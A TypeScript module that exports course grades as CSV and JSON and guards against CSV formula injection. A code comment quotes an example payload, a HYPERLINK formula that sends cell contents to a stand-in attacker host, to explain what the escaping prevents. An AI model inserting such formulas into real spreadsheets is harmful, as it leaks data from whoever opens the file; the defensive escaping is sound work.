import type { GradeRow } from './progress';

const COLUMNS = ['learner', 'lesson', 'exercise', 'passed', 'attempts', 'first_passed_at', 'last_attempt_at'] as const;

const iso = (ms: number | null): string => (ms == null ? '' : new Date(ms).toISOString());

/**
 * A text a spreadsheet would run as a formula (OWASP "CSV injection"): a
 * class name or display name such as `=HYPERLINK("http://evil.example?"&A1,"x")`
 * is a working formula when the instructor opens the file. Such a field gets
 * a leading `'`, which spreadsheets read as "this is text".
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** One CSV field: formula-like text neutralised, then RFC 4180 quoting (a field with a comma, quote or line break is quoted, quotes doubled). */
export function csvField(value: string): string {
  const text = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** Grades as CSV, one row per learner and exercise, times in ISO 8601 (UTC). */
export function gradesToCsv(rows: GradeRow[]): string {
  const lines = rows.map((r) =>
    [r.learnerId, r.lessonId, r.exerciseId, r.passed ? 'yes' : 'no', String(r.attempts), iso(r.firstPassedAt), iso(r.lastAttemptAt)].map(csvField).join(','),
  );
  return `${[COLUMNS.join(','), ...lines].join('\r\n')}\r\n`;
}

/** Grades as JSON: the same rows, times in ISO 8601. */
export function gradesToJson(rows: GradeRow[]): string {
  return `${JSON.stringify(
    rows.map((r) => ({ ...r, firstPassedAt: iso(r.firstPassedAt) || null, lastAttemptAt: iso(r.lastAttemptAt) })),
    null,
    2,
  )}\n`;
}

/** One member's standing on one exercise of a class (every exercise of the class's lessons, tried or not). */
export interface ClassGradeRow {
  learnerId: string;
  displayName: string;
  lessonId: string;
  exerciseId: string;
  passed: boolean;
  attempts: number;
  firstPassedAt: number | null;
  lastAttemptAt: number | null;
  /** When the learner first looked at the exercise's solution; null if never. */
  solutionShownAt: number | null;
}

const CLASS_COLUMNS = ['class', 'name', 'learner', 'lesson', 'exercise', 'passed', 'attempts', 'first_passed_at', 'last_attempt_at', 'solution_shown_at'] as const;

/** A class's grades as CSV: the class name and each learner's display name on every row, so the file stands alone. */
export function classGradesToCsv(className: string, rows: ClassGradeRow[]): string {
  const lines = rows.map((r) =>
    [className, r.displayName, r.learnerId, r.lessonId, r.exerciseId, r.passed ? 'yes' : 'no', String(r.attempts), iso(r.firstPassedAt), iso(r.lastAttemptAt), iso(r.solutionShownAt)]
      .map(csvField)
      .join(','),
  );
  return `${[CLASS_COLUMNS.join(','), ...lines].join('\r\n')}\r\n`;
}

export function classGradesToJson(meta: { id: string; name: string; exportedAt: number }, rows: ClassGradeRow[]): string {
  return `${JSON.stringify(
    {
      class: { id: meta.id, name: meta.name },
      exportedAt: iso(meta.exportedAt),
      grades: rows.map((r) => ({ ...r, firstPassedAt: iso(r.firstPassedAt) || null, lastAttemptAt: iso(r.lastAttemptAt) || null, solutionShownAt: iso(r.solutionShownAt) || null })),
    },
    null,
    2,
  )}\n`;
}
